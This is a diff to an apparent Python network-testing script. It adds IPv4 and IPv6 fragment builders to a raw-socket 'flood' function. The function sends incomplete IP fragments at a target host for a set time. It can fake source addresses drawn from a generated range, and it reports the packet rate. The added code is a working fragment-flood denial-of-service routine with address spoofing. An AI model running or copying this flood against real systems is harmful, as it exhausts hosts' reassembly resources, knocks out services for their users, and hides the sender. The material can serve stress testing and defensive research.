@@ -267,16 +267,30 @@ def sized_ids(host, port, size, count, first):
     print(right)
 
 
+def fragment4(source, target, number, offset, data):
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), number & 0xffff, 0x2000 | offset, 64, 17, 0, source, target) + data
+
+
+def fragment6(source, target, number, offset, data):
+    return (struct.pack("!IHBB16s16s", 6 << 28, 8 + len(data), 44, 64, source, target) +
+            struct.pack("!BBHI", 17, 0, offset << 3 | 1, number) + data)
+
+
 def flood(host, source, seconds, what="later"):
     """Parts of datagrams that never become whole, from one address, or from many where source is "any"."""
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    end, count, target = time.time() + float(seconds), 0, socket.inet_aton(host)
+    family, fragment = (socket.AF_INET6, fragment6) if ":" in host else (socket.AF_INET, fragment4)
+    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    end, count, target = time.time() + float(seconds), 0, socket.inet_pton(family, host)
     while time.time() < end:
         for _ in range(200):
             count += 1
-            addr = struct.pack("!I", 0x0a000000 | count * 40503 & 0xffffff) if source == "any" else socket.inet_aton(source)
-            raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1420, count & 0xffff, 0x2000 | (what == "later") * (1 + count % 1000), 64, 17, 0, addr,
-                                   target) + b"x" * 1400, (host, 0))
+            if source != "any":
+                addr = socket.inet_pton(family, source)
+            else:
+                addr = struct.pack("!I", 0x0a000000 | count * 40503 & 0xffffff)
+                if family == socket.AF_INET6:
+                    addr = socket.inet_pton(family, "2001:db8:a::")[:12] + addr
+            raw.sendto(fragment(addr, target, count, (what == "later") * (1 + count % 1000), b"x" * 1400), (host, 0))
     print(int(count / float(seconds)))
 
 
